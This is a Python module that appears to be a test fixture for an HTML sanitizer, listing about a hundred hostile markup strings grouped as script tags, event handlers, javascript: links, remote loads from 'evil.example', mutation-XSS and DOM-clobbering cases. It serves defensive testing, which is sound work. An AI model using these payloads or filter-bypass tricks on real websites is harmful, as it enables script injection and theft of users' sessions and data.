"""Hostile markup: each string tries to run something, fetch something or break out.

The strings mark what would run with ``boom`` and what would be fetched with ``evil.example``.
"""

SCRIPTS = (
    "<script>boom()</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "<script/x>boom()</script>",
    "<scr<script>ipt>boom()</scr</script>ipt>",
    "<script>boom()",
    "<noscript><p title='</noscript><img src=x onerror=boom()>'>",
    "<template><script>boom()</script></template>",
    "<!--><script>boom()</script>-->",
    "<!--x--!><script>boom()</script>",
    "<![CDATA[><script>boom()</script>]]>",
    "<?xml ><script>boom()</script>?>",
    "</title><script>boom()</script>",
    "<title></title><script>boom()</script></title>",
    "<textarea></textarea><script>boom()</script>",
    "<xmp></xmp><script>boom()</script></xmp>",
    "<iframe srcdoc='<script>boom()</script>'></iframe>",
    "<noembed></noembed><script>boom()</script>",
    "<plaintext><script>boom()</script>",
)

HANDLERS = (
    "<img src=x onerror=boom()>",
    "<img src=x onerror\t=\tboom()>",
    "<img/src=x/onerror=boom()>",
    '<img src="x` `" onerror="boom()">',
    "<img alt='a' onload=boom() src=data:image/png;base64,AAAA>",
    "<body onload=boom()>",
    "<p onmouseover=boom()>x</p>",
    "<div style='color:red' onfocus=boom() tabindex=0 autofocus>x</div>",
    "<details open ontoggle=boom()>x</details>",
    "<marquee onstart=boom()>x</marquee>",
    "<video><source onerror=boom()></video>",
    "<audio src onerror=boom()>",
    "<table background=//evil.example/a.png onclick=boom()><td background=//evil.example>x",
    '<p title="x"onclick=boom()>y</p>',
    "<a href=# onclick=boom()>x</a>",
    "<math><mi onclick=boom()>x</mi></math>",
)

LINKS = (
    "<a href=javascript:boom()>x</a>",
    "<a href='jav&#x09;ascript:boom()'>x</a>",
    "<a href='&#1;javascript:boom()'>x</a>",
    "<a href=' \njavascript:boom()'>x</a>",
    "<a href='JaVaScRiPt&colon;boom()'>x</a>",
    "<a href='data:text/html,<script>boom()</script>'>x</a>",
    "<a href='vbscript:boom()'>x</a>",
    "<a href=//evil.example target=_top ping=//evil.example>x</a>",
    "<map name=m><area href=javascript:boom() shape=default></map><img usemap=#m>",
    "<math href=javascript:boom()>x</math>",
    "<math><maction actiontype='statusline#//evil.example' xlink:href=javascript:boom()>x",
    "<base href=//evil.example/><a href=x>y</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>x",
    "<link rel=stylesheet href=//evil.example/a.css>x",
    "<link rel=prefetch href=//evil.example/>x",
    "<form action=//evil.example><input name=a><button formaction=javascript:boom()>x</button>",
    "<isindex action=javascript:boom() type=image>x",
)

LOADS = (
    "<img src=//evil.example/a.png>x",
    "<img srcset='//evil.example/a.png 2x' sizes=1px>x",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImJvb20oKSIvPg=='>x",
    "<image src=//evil.example/a.png>x",
    "<picture><source srcset=//evil.example/a.png><img></picture>x",
    "<video poster=//evil.example/a.png src=//evil.example/a.mp4></video>x",
    "<object data=//evil.example/a.swf>x</object>y",
    "<embed src=//evil.example/a.swf>x",
    "<iframe src=//evil.example></iframe>x",
    "<frameset><frame src=javascript:boom()></frameset>x",
    "<p style='background:url(//evil.example/a.png)'>x",
    "<p style='background:u\\72 l(//evil.example/a.png)'>x",
    "<p style='list-style:url(//evil.example)'>x",
    "<p style='width:expression(boom())'>x",
    "<style>@import '//evil.example/a.css';</style>x",
    "<style><!--</style><script>boom()</script>-->x",
    "<svg><image href=//evil.example/a.png></svg>x",
    "<svg><use href='//evil.example/a.svg#x'></svg>x",
    "<svg onload=boom()>x</svg>y",
    "<svg><style>@import '//evil.example'</style></svg>x",
    "<input type=image src=//evil.example/a.png>x",
    "<q cite=//evil.example>x</q>",
)

MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=boom()>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=boom()>'>",
    "<math><annotation-xml encoding=text/html><img src=1 onerror=boom()></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=boom()>",
    "<svg><foreignObject><img src=x onerror=boom()></foreignObject></svg>",
    "<svg><title><style><img src=x onerror=boom()></style></title></svg>x",
    "<noscript><style></noscript><img src=x onerror=boom()></style>",
    "<select><template><img src=x onerror=boom()></template></select>",
    "<table><caption><svg><desc><img src=x onerror=boom()></table>",
    "<p data-t='0\"><img src=x onerror=boom()>' data-c=0>x</p>",
    "&lt;img src=x onerror=boom()&gt;",
    "<p title='&quot;&gt;&lt;img src=x onerror=boom()&gt;'>x</p>",
    "<a id='x<img src=x onerror=boom()>'>y</a>",
    "<img alt='<img src=x onerror=boom()>'>x",
    "<annotation encoding='text/html'><img src=x onerror=boom()></annotation>",
    "<math><semantics><annotation><!--</annotation><img src=x onerror=boom()>--></semantics>x",
)

CLOBBERING = (
    "<img name=getElementById><img name=querySelector>x",
    "<form name=body><input name=children></form>x",
    "<a id=documentElement name=cookie>x</a>",
    "<p id=app class=x>x</p>",
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "<style>body{display:none}</style>x",
    "</body></html><p>x",
    "</span></span></p></div></body>x",
    "<!DOCTYPE html><html data-theme=dark><body>x",
)

ATTACK_KINDS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "links": LINKS,
    "loads": LOADS,
    "mutations": MUTATIONS,
    "clobbering": CLOBBERING,
}

ATTACKS = tuple(attack for attacks in ATTACK_KINDS.values() for attack in attacks)
